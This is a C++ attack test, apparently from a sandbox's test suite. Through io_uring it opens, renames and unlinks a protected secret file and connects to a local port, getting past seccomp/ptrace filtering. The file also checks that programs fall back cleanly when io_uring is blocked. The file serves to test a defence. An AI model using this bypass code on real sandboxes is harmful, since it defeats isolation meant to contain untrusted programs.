// attack: io-uring
// class: indirect
// severity: critical
// models: naive
// trap: A ring of requests in shared memory: open, connect, rename, unlink and mkdir without their
//   system calls; with a thread of the kernel's that polls it, without any.
// naive: Numbers 425 to 427 are unknown, so they pass.
// kernel: io_uring runs operations in the kernel on the submitter's behalf; neither seccomp nor
//   ptrace sees them (io_uring(7)).
// sealed: io_uring_setup is ENOSYS; libraries fall back.
// source: netblue30/firejail#7058; moby/moby#46762
// policy:
//   path allow read,execute /usr/**
//   path allow $T/
//   network deny all
// report: none
#include <linux/io_uring.h>

#include "tests/support/attack.h"

namespace attack {
namespace {

// Makes one request through a ring of one entry; its result, or -errno.
template <typename Fill>
int request(Fill fill, unsigned flags = 0) {
  io_uring_params params{};
  params.flags = flags;
  const auto ring = static_cast<int>(::syscall(SYS_io_uring_setup, 1, &params));
  if (ring < 0) return -errno;
  size_t sq_size = params.sq_off.array + params.sq_entries * sizeof(uint32_t);
  size_t cq_size = params.cq_off.cqes + params.cq_entries * sizeof(io_uring_cqe);
  size_t size = sq_size > cq_size ? sq_size : cq_size;
  auto* rings = static_cast<char*>(
      ::mmap(nullptr, size, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING));
  auto* entries =
      static_cast<io_uring_sqe*>(::mmap(nullptr, params.sq_entries * sizeof(io_uring_sqe),
                                        PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES));
  must(rings != MAP_FAILED && entries != MAP_FAILED, "mmap of the ring");
  entries[0] = io_uring_sqe{};
  fill(entries[0]);
  *reinterpret_cast<uint32_t*>(rings + params.sq_off.array) = 0;
  auto* tail = reinterpret_cast<uint32_t*>(rings + params.sq_off.tail);
  __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
  auto* done = reinterpret_cast<uint32_t*>(rings + params.cq_off.tail);
  if ((flags & IORING_SETUP_SQPOLL) != 0) {  // the kernel's thread sees it, without a call
    auto* state = reinterpret_cast<uint32_t*>(rings + params.sq_off.flags);
    for (int i = 0; i < 5000 && __atomic_load_n(done, __ATOMIC_ACQUIRE) == 0; ++i) {
      // It may have gone to sleep over the empty ring; the call that wakes it says nothing of what is asked.
      if ((__atomic_load_n(state, __ATOMIC_ACQUIRE) & IORING_SQ_NEED_WAKEUP) != 0)
        ::syscall(SYS_io_uring_enter, ring, 0, 0, IORING_ENTER_SQ_WAKEUP, nullptr, 0);
      ::usleep(1000);
    }
  } else if (::syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, nullptr, 0) < 0) {
    return -errno;
  }
  if (__atomic_load_n(done, __ATOMIC_ACQUIRE) == 0) return -ETIME;
  return reinterpret_cast<io_uring_cqe*>(rings + params.cq_off.cqes)[0].res;
}

uint64_t address_of(const void* what) { return reinterpret_cast<uintptr_t>(what); }

int ring_open(const std::string& path, unsigned flags = 0) {
  return request(
      [&](io_uring_sqe& entry) {
        entry.opcode = IORING_OP_OPENAT;
        entry.fd = AT_FDCWD;
        entry.addr = address_of(path.c_str());
        entry.open_flags = O_RDONLY;
      },
      flags);
}
int ring_socket() {
  return request([](io_uring_sqe& entry) {
    entry.opcode = IORING_OP_SOCKET;
    entry.fd = AF_INET;
    entry.off = SOCK_STREAM;
  });
}
int ring_connect(int s, const sockaddr_in& to) {
  return request([&](io_uring_sqe& entry) {
    entry.opcode = IORING_OP_CONNECT;
    entry.fd = s;
    entry.addr = address_of(&to);
    entry.off = sizeof to;
  });
}
int ring_unlink(const std::string& path) {
  return request([&](io_uring_sqe& entry) {
    entry.opcode = IORING_OP_UNLINKAT;
    entry.fd = AT_FDCWD;
    entry.addr = address_of(path.c_str());
  });
}
int ring_mkdir(const std::string& path) {
  return request([&](io_uring_sqe& entry) {
    entry.opcode = IORING_OP_MKDIRAT;
    entry.fd = AT_FDCWD;
    entry.addr = address_of(path.c_str());
    entry.len = 0755;
  });
}
int ring_rename(const std::string& from, const std::string& to) {
  return request([&](io_uring_sqe& entry) {
    entry.opcode = IORING_OP_RENAMEAT;
    entry.fd = AT_FDCWD;
    entry.addr = address_of(from.c_str());
    entry.len = static_cast<uint32_t>(AT_FDCWD);
    entry.off = address_of(to.c_str());
  });
}

void get(int fd) {
  if (fd < 0) errno = -fd;
  take(fd);
}
void note(int result, const char* what) {
  if (result >= 0) prey_taken(what);
  errno = -result;
}

}  // namespace

void strike() {
  if (way("open")) get(ring_open(secret()));
  if (way("open without a call")) get(ring_open(secret(), IORING_SETUP_SQPOLL));
  if (way("connect")) {
    int s = ring_socket();
    if (s == -EINVAL) s = ::socket(AF_INET, SOCK_STREAM, 0);  // before 5.19
    const int result = s < 0 ? s : ring_connect(s, v4("127.0.0.1", number("ATTACK_TCP")));
    if (result == 0) take(s);
    errno = -result;
  }
  if (way("mkdir")) note(ring_mkdir(secret("made")), "made");
  if (way("rename")) note(ring_rename(secret(), work("key")), "renamed away");
  if (way("unlink")) note(ring_unlink(secret()), "unlinked");
  held("io_uring");
}

// A program with a fallback works: the errno is one it understands.
void twin() {
  int fd = ring_open(work("ok.dat"));
  must(fd >= 0 || fd == -ENOSYS || fd == -EPERM, "io_uring_setup");
  must(reads(work("ok.dat"), "harmless\n"), "the fallback");
  twin_ok();
}

}  // namespace attack
